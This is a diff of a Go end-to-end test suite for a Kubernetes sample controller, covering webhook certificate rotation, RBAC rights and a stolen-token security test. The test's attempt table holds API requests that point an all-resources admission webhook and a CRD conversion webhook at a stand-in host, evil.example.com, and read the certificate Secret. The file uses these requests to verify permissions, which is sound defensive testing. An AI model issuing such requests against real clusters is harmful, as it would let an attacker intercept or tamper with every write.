@@ -27,11 +27,15 @@ import (
 	"os"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
 
 	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
+	"k8s.io/apimachinery/pkg/util/sets"
+	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 	"k8s.io/client-go/util/cert"
 )
 
@@ -46,16 +50,6 @@ func (w *webhookEnv) rotation(t *testing.T) {
 	second := startWithSecrets(t, w.secrets, webhookFlags+"127.0.0.1:0 -v=4"+often)
 	w.install(t, w.address, second.awaitServing("webhooks"))
 	w.awaitWebhooks(t)
-	w.rotateUnderLoad(t)
-	mustContain(t, second.output(), `"Answered a webhook request" webhook="/convert-foo"`)
-	w.install(t, w.address, w.address)
-	w.awaitWebhooks(t)
-	second.stop()
-	w.awaitWebhooks(t)
-}
-
-// rotateUnderLoad sends requests until all certificates have been replaced.
-func (w *webhookEnv) rotateUnderLoad(t *testing.T) {
 	load := startWebhookLoad(t, w.namespace)
 	old := w.trustedAuthorities(t)
 	eventually(t, "the certificates have been replaced", func(context.Context) error {
@@ -67,6 +61,11 @@ func (w *webhookEnv) rotateUnderLoad(t *testing.T) {
 		return nil
 	})
 	t.Logf("%d requests during a rotation, none failed", load.stop())
+	mustContain(t, second.output(), `"Answered a webhook request" webhook="/convert-foo"`)
+	w.install(t, w.address, w.address)
+	w.awaitWebhooks(t)
+	second.stop()
+	w.awaitWebhooks(t)
 }
 
 // trustedAuthorities returns the authorities of the conversion webhook that the API server
@@ -89,7 +88,11 @@ func (w *webhookEnv) down(t *testing.T) {
 	sh(t, w.apply("v1beta1", "mixed", "spec: {deployment: {name: mixed}, replicas: 0}"))
 	w.restartController()
 	w.server.stop()
-	w.reconciles(t, "down", 1)
+	before := ignoredWebhookFailures(t)
+	w.reconciles(t)
+	if ignoredWebhookFailures(t) == before {
+		t.Error("SampleControllerWebhookUnanswered would not fire")
+	}
 	mustContain(t, shFails(t, w.apply("v1beta1", "later", "spec: {deployment: {name: later}, replicas: 0}")), "conversion webhook for samplecontroller.k8s.io/v1beta1", "connection refused")
 	w.start(w.address)
 	w.awaitWebhooks(t)
@@ -98,38 +101,19 @@ func (w *webhookEnv) down(t *testing.T) {
 
 // reconciles creates, changes and lists Foos as v1alpha1, and changes one whose field managers use v1beta1. The
 // controller follows.
-func (w *webhookEnv) reconciles(t *testing.T, name string, replicas int) {
+func (w *webhookEnv) reconciles(t *testing.T) {
 	t.Helper()
-	const foos, mixed = "foos.v1alpha1.samplecontroller.k8s.io", "foos.v1alpha1.samplecontroller.k8s.io/mixed"
+	const foos = "foos.v1alpha1.samplecontroller.k8s.io"
 	namespace := " --namespace=" + w.namespace
 	// The API server may still be reading a CRD that has just changed.
-	shUntil(t, w.apply("v1alpha1", name, "spec: {deploymentName: "+name+", replicas: 0}"), "created|unchanged")
-	for name, replicas := range map[string]int{name: 1, "mixed": replicas} {
-		sh(t, fmt.Sprintf(`kubectl patch %s/%s --type=merge -p '{"spec":{"replicas":%d}}'`, foos, name, replicas)+namespace)
+	shUntil(t, w.apply("v1alpha1", "down", "spec: {deploymentName: down, replicas: 0}"), "created|unchanged")
+	for _, foo := range []string{"down", "mixed"} {
+		sh(t, fmt.Sprintf(`kubectl patch %s/%s --type=merge -p '{"spec":{"replicas":1}}'`, foos, foo)+namespace)
 	}
 	sh(t, "kubectl get "+foos+namespace)
-	sh(t, "kubectl wait --for=condition=Ready --timeout=3m "+foos+"/"+name+namespace)
-	sh(t, fmt.Sprintf("kubectl wait --for=jsonpath='{.status.availableReplicas}'=%d --timeout=3m ", replicas)+mixed+namespace)
-}
-
-// slow replaces the webhooks by a server that never answers. Users wait for the timeout, but
-// the controller reconciles, because the webhooks are not called for its writes.
-func (w *webhookEnv) slow(t *testing.T) {
-	w.restartController()
-	// The kernel completes connections to a listener that never accepts them.
-	address := listen(t).Addr().String()
-	w.install(t, address, address)
-	// Each change of a Foo waits for both admission webhooks, in the manifests 5 s for each.
-	for _, kind := range []string{"mutatingwebhookconfiguration", "validatingwebhookconfiguration"} {
-		sh(t, "kubectl patch "+kind+` sample-controller-webhook --type=json -p '[{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":1}]'`)
+	for _, foo := range []string{"down", "mixed"} {
+		sh(t, "kubectl wait --for=jsonpath='{.status.availableReplicas}'=1 --timeout=3m "+foos+"/"+foo+namespace)
 	}
-	before := ignoredWebhookFailures(t)
-	w.reconciles(t, "slow", 2)
-	if ignoredWebhookFailures(t) == before {
-		t.Error("SampleControllerWebhookUnanswered would not fire")
-	}
-	w.install(t, w.address, w.address)
-	w.awaitWebhooks(t)
 }
 
 // removal removes the component after the webhooks have stopped, and ends the controller.
@@ -279,4 +263,150 @@ func (w *webhookEnv) store(t *testing.T, version string) {
 	}
 	sh(t, `kubectl patch crd foos.samplecontroller.k8s.io --subresource=status --type=merge -p '{"status":{"storedVersions":["`+version+`"]}}'`)
 	mustContain(t, sh(t, "kubectl get crd foos.samplecontroller.k8s.io -o jsonpath='{.status.storedVersions}'"), `["`+version+`"]`)
+}
+
+// TestWebhookVariants: the controller has no rights for the webhooks, and with cert-manager these may
+// write nothing.
+func TestWebhookVariants(t *testing.T) {
+	t.Parallel()
+	base := variantRights(t, "base")[serviceAccount]
+	for _, name := range []string{"with-webhook", "with-webhook-cert-manager"} {
+		if rights := variantRights(t, name)[serviceAccount]; !rights.Equal(base) {
+			t.Errorf("%s: the controller's rights are %q, want those of base", name, sets.List(rights))
+		}
+	}
+	want := []string{
+		rightOf("create", "authentication.k8s.io", "tokenreviews"), rightOf("create", "authorization.k8s.io", "subjectaccessreviews"),
+		rightOf("list", "apps", "deployments"), rightOf("list", "samplecontroller.k8s.io", "foos"),
+		rightOf("watch", "apps", "deployments"), rightOf("watch", "samplecontroller.k8s.io", "foos"),
+	}
+	if rights := sets.List(variantRights(t, "with-webhook-cert-manager")[webhookAccount]); !slices.Equal(rights, want) {
+		t.Errorf("with cert-manager the webhooks' rights are %q, want %q", rights, want)
+	}
+}
+
+// TestWebhooksForAllSets renders the overlay of docs/scale.md, which has the webhooks and no
+// controller.
+func TestWebhooksForAllSets(t *testing.T) {
+	t.Parallel()
+	text, err := os.ReadFile(filepath.Join(shared.root, "docs/scale.md"))
+	must(t, err)
+	_, after, _ := strings.Cut(string(text), "\n## Webhooks for all sets\n")
+	_, after, _ = strings.Cut(after, "\n\n    ")
+	commands, _, ok := strings.Cut(after, "\n    kubectl apply ")
+	if !ok {
+		t.Fatal("docs/scale.md has no overlay")
+	}
+	directory := t.TempDir()
+	output := sh(t, fmt.Sprintf("cp -r %s/artifacts %s && cd %s\n%s\nkubectl kustomize webhooks",
+		shared.root, directory, directory, strings.ReplaceAll(commands, "\n    ", "\n")))
+	mustContain(t, output, "strategy: Webhook", "name: "+webhookAccount, "--webhooks-only", "image: registry.example.com/sample-controller:v1")
+	if n := strings.Count(output, "\nkind: Deployment\n"); n != 1 {
+		t.Errorf("the overlay has %d Deployments, want that of the webhooks", n)
+	}
+}
+
+// updateCRD is the right that the webhooks use while the CRD names a conversion webhook.
+const updateCRD = "update apiextensions.k8s.io/customresourcedefinitions"
+
+// missWebhookRights runs the webhooks for updateCRD, or at the same time for each other of their rights, as
+// TestEveryRightIsMissed runs the controllers.
+func missWebhookRights(t *testing.T, ofCRD bool) {
+	rules, missed := variantRules(t, "with-webhook")[webhookAccount], 0
+	for i, rule := range rules {
+		if (ruleRight(rule) == updateCRD) != ofCRD {
+			continue
+		}
+		missed++
+		t.Run("webhooks: "+ruleRight(rule), func(t *testing.T) {
+			if !ofCRD {
+				t.Parallel()
+			}
+			missWebhookRight(t, rules, i)
+		})
+	}
+	if missed == 0 {
+		t.Fatal("the service account of the webhooks has no such right")
+	}
+}
+
+// missingRight is the test of updateCRD, while the CRD names the webhook.
+func (w *webhookEnv) missingRight(t *testing.T) {
+	createAccountsNamespace(t)
+	missWebhookRights(t, true)
+}
+
+// missWebhookRight runs the webhooks without the right of rule i, and waits until the API server
+// refuses it. The Secret and the configurations have other names than those of the manifests,
+// which other processes write.
+func missWebhookRight(t *testing.T, rules []rbacv1.PolicyRule, i int) {
+	t.Helper()
+	e, missing := newEnv(t), ruleRight(rules[i])
+	own := unique("webhook")
+	var granted []rbacv1.PolicyRule
+	for _, rule := range slices.Concat(rules[:i], rules[i+1:]) {
+		if slices.Equal(rule.ResourceNames, []string{webhookAccount}) {
+			rule.ResourceNames = []string{own}
+		}
+		granted = append(granted, rule)
+	}
+	user, token := e.newAccount(granted)
+	text, err := os.ReadFile(filepath.Join(shared.root, "artifacts/deploy/webhook/configurations.yaml"))
+	e.must(err)
+	// The API server calls them for no other test's Foos.
+	configurations := strings.NewReplacer(
+		"\n  name: "+webhookAccount+"\nwebhooks:", "\n  name: "+own+"\nwebhooks:",
+		"operator: NotIn", "operator: In", "values: [kube-system, "+systemNamespace+"]", "values: ["+e.namespace+"]").Replace(string(text))
+	file := filepath.Join(e.TempDir(), "configurations.yaml")
+	e.must(os.WriteFile(file, []byte(configurations), 0o600))
+	sh(t, "kubectl apply -f "+file)
+	shOnCleanup(t, "kubectl delete -f "+file)
+	if missing != "create secrets" {
+		// The program renews a certificate that it cannot read.
+		e.kubectl("create secret generic " + own + " --from-literal=tls.key=x")
+	}
+	// Streaming lists do not take the right to list.
+	e.controller = start(t, t.TempDir(), fmt.Sprintf("env KUBE_FEATURE_WatchListClient=false sample-controller -kubeconfig=%s --webhooks-only --webhook-bind-address=127.0.0.1:0"+
+		" --leader-elect-resource-namespace=%s --webhook-secret=%s --webhook-configuration=%[3]s --metrics-bind-address=127.0.0.1:0",
+		kubeconfigOf(t, &clientcmdapi.AuthInfo{Token: token}), e.namespace, own))
+	e.controller.awaitServing("metrics")
+	e.eventually("the API server refuses to "+missing, func(context.Context) error { return e.refused(user, token, missing) })
+}
+
+// webhookAttempts take the rights to keep the certificate of the webhooks.
+func webhookAttempts() []attempt {
+	const evil = `{"clientConfig":{"url":"https://evil.example.com/","service":null}`
+	const conversion = `{"spec":{"conversion":{"strategy":"Webhook","webhook":` + evil + `,"conversionReviewVersions":["v1"]}}}}`
+	const crds, secrets = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/", "/api/v1/namespaces/HOME/secrets"
+	return []attempt{
+		{"register a server of their own as an admission webhook for all resources",
+			"PUT /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/" + webhookAccount,
+			`{"webhooks":[` + evil + `,"name":"a.example.com","sideEffects":"None","admissionReviewVersions":["v1"],` +
+				`"rules":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*"]}]}]}`},
+		{"change the CRD of Foos", "PUT " + crds + "foos.samplecontroller.k8s.io", conversion},
+		{"change another CRD", "PUT " + crds + "memcacheds.cache.example.com", conversion}, // +drop:memcached
+		{"read the Secret with the certificate of the webhooks", "GET " + secrets + "?fieldSelector=metadata.name=" + webhookAccount, ""},
+		{"create a Secret in the controller's namespace", "POST " + secrets, "{metadata: {name: evil}}"},
+		{"read all Foos and Deployments", "GET /apis/samplecontroller.k8s.io/v1alpha1/foos /apis/apps/v1/deployments", ""},
+		{"create, change or delete a Deployment", "DELETE " + deploymentsPath + "/x", ""},
+	}
+}
+
+// stolenToken tries what an attacker with the token of the webhooks' service account can do, where the
+// program keeps the certificate and where cert-manager does. The table of docs/security.md is its
+// result.
+func (w *webhookEnv) stolenToken(t *testing.T) {
+	e := newEnv(t)
+	// The controller of walkthrough 5 syncs all namespaces.
+	e.create("x")
+	e.awaitReady("x")
+	own := newAttacker(e, systemNamespace, systemNamespace, webhookAccount)
+	// With cert-manager the manifests bind one role.
+	binding := e.namespace + "-lookups"
+	shOnCleanup(t, "kubectl delete clusterrolebinding "+binding)
+	sh(t, fmt.Sprintf("kubectl create clusterrolebinding %s --clusterrole=%s-lookups --serviceaccount=%s:%[2]s", binding, webhookAccount, e.namespace))
+	certManager := newAttacker(e, systemNamespace, e.namespace, webhookAccount)
+	for _, a := range slices.Concat(webhookAttempts(), otherAttempts()) {
+		mustDocument(t, a.what, own.succeeds(a), certManager.succeeds(a))
+	}
 }
